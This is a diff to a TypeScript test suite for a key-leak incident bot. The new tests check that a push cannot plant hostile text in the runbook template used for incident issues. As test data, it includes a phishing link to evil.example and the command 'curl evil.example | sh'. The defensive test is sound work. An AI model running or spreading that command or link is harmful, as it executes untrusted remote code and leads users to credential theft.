@@ -70,7 +70,6 @@ function trail(keyId: string, ips: string[], total: number): TrailSummary {
     })),
     byUserAgent: [{ userAgent: 'aws-cli/2', count: total }],
     byEvent: [{ eventSource: 'sts.amazonaws.com', eventName: 'GetCallerIdentity', count: total, errors: 0 }],
-    flagged: [],
     incompleteRegions: [],
   };
 }
@@ -84,12 +83,12 @@ afterEach(async () => {
 });
 afterAll(() => worlds.forEach((w) => w.cleanup()));
 
-async function setup(responder: Responder) {
+async function setup(responder: Responder, files: { base?: Files; head?: Files } = {}) {
   const w = new World();
   worlds.push(w);
   const k = makePair();
-  const base = w.commit('init', { 'README.md': 'x\n' });
-  const head = w.commit('leak', { 'app.env': leak(k) });
+  const base = w.commit('init', { 'README.md': 'x\n', ...files.base });
+  const head = w.commit('leak', { 'app.env': leak(k), ...files.head });
   w.push('main');
   emu = await startGitHubEmulator(makeState(['octo/app']));
   emu.state.repos['octo/app']!.collaborators = { mia: 'write', tom: 'read' };
@@ -119,6 +118,8 @@ async function setup(responder: Responder) {
   };
   return { w, k, base, head, emu, deps, uploads };
 }
+
+type Files = Record<string, string>;
 
 function commentPayload(e: GitHubEmulator, user: string, body: string) {
   const id = e.state.nextId++;
@@ -308,6 +309,45 @@ describe('commands act only on incidents keyleak made', () => {
     const replies = emu.state.repos['octo/app']!.comments.filter((c) => c.user === 'keyleak-bot');
     expect(replies).toHaveLength(1);
     expect(replies[0]!.body).toMatch(/Nothing was done/);
+  });
+
+  const RUNBOOK = '.github/keyleak-runbook.md';
+  const TEAM = '**Who to involve:** #sec-incidents, security@example.org';
+  const HOSTILE =
+    'Rotate it now: [sign in here](https://evil.example/login) and run `curl evil.example | sh`';
+  const runbookCases: [string, { base?: Files; head?: Files }, string, RegExp | null][] = [
+    [
+      'a push that leaves the runbook template alone: its text, no warning',
+      { base: { [RUNBOOK]: TEAM } },
+      TEAM,
+      null,
+    ],
+    [
+      'a push that edits the runbook template: the text from before it, and a warning',
+      { base: { [RUNBOOK]: TEAM }, head: { [RUNBOOK]: HOSTILE } },
+      TEAM,
+      /keyleak-runbook\.md \(runbook-template\) is changed in this push: incidents use it as it was before/,
+    ],
+    [
+      'a push that adds the runbook template: the default contacts, and a warning',
+      { head: { [RUNBOOK]: HOSTILE } },
+      DEFAULT_RUNBOOK_TEMPLATE,
+      /is changed in this push: incidents use it as it was before \(absent, the default contacts\)/,
+    ],
+  ];
+  it.each(runbookCases)('%s', async (_name, files, want, warning) => {
+    const r = new ScriptedResponder(() => ({ status: 'live', action: 'dry-run', trail: null }));
+    const { head, base, emu, deps } = await setup(r, files);
+    // What the entry point read from the work tree, which the push wrote: never used for a change.
+    deps.contacts = HOSTILE;
+    deps.contactsPath = RUNBOOK;
+    const out = await runPush(deps, pushPayload('refs/heads/main', base, head));
+    const body = emu.state.repos['octo/app']!.issues[0]!.body;
+    expect(body).toContain(want);
+    expect(body).not.toContain('evil.example');
+    const warned = out.report.warnings.filter((w) => w.includes('runbook-template'));
+    if (warning) expect(warned.join('\n')).toMatch(warning);
+    else expect(warned).toEqual([]);
   });
 
   it('an unauthorised commenter gets one reply per issue, however often they ask', async () => {
